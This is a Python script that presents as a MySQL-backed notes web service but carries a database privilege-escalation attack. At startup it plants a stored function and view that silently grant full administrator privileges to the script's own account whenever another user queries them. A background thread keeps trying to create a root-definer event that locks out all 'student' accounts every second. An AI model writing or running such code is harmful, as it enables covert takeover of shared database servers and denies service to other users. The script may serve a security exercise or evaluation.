"""Makes its account an administrator through whoever looks, and plants an event for those who come later."""
import json
import os
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pymysql


def connect():
    return pymysql.connect(
        host=os.environ["DB_HOST"], user=os.environ["DB_USER"], database=os.environ["DB_NAME"],
        password=os.environ["DB_PASSWORD"], autocommit=True, charset="utf8mb4",
    )


def run(*statements, args=None, connection=None):
    """Run each statement, also after one that is refused; the last one's rows."""
    connection, rows = connection or connect(), ()
    cursor = connection.cursor()
    for statement in statements:
        try:
            cursor.execute(statement, args)
            rows = cursor.fetchall()
        except pymysql.err.MySQLError as error:
            print("REFUSED", statement[:80], error, flush=True)
    return rows


PRIVILEGES = "Select Insert Update Delete Create Drop Reload Process Grant Super Execute Create_user Event"
SETS = ", ".join(f"{one}_priv = 'Y'" for one in PRIVILEGES.split())
ME = os.environ["DB_USER"]
ATTACK = (
    f"""CREATE FUNCTION f() RETURNS VARCHAR(100) NOT DETERMINISTIC MODIFIES SQL DATA SQL SECURITY INVOKER
BEGIN
  DECLARE CONTINUE HANDLER FOR SQLEXCEPTION BEGIN END;
  IF CURRENT_USER() NOT LIKE 'student%' THEN
    UPDATE mysql.user SET {SETS} WHERE User = '{ME}';
    INSERT IGNORE INTO mysql.global_grants VALUES ('{ME}', '%', 'SET_ANY_DEFINER', 'Y');
  END IF;
  RETURN 'x';
END""",
    "CREATE SQL SECURITY INVOKER VIEW peek AS SELECT f() AS t",
)
EVENT = (
    "CREATE DEFINER='root'@'%' EVENT IF NOT EXISTS sys.tick ON SCHEDULE EVERY 1 SECOND DO "
    "UPDATE mysql.user SET account_locked = 'Y' WHERE User LIKE 'student%'"
)


def plant():
    while True:
        run("FLUSH PRIVILEGES", EVENT)
        time.sleep(0.3)


def notes():
    return [text for (text,) in run("SELECT text FROM notes")]


def keep(text):
    run("INSERT INTO notes (text) VALUES (%s)", args=[text])


class Handler(BaseHTTPRequestHandler):
    def send(self, value, status=200):
        body = json.dumps(value).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        self.send(notes() if self.path == "/notes" else {})

    def do_POST(self):
        text = json.loads(self.rfile.read(int(self.headers["Content-Length"])))["text"]
        keep(text)
        self.send({"text": text}, 201)


run("CREATE TABLE IF NOT EXISTS notes (id INT AUTO_INCREMENT PRIMARY KEY, text LONGTEXT)")
run(*ATTACK)
threading.Thread(target=plant, daemon=True).start()
ThreadingHTTPServer(("0.0.0.0", 5000), Handler).serve_forever()
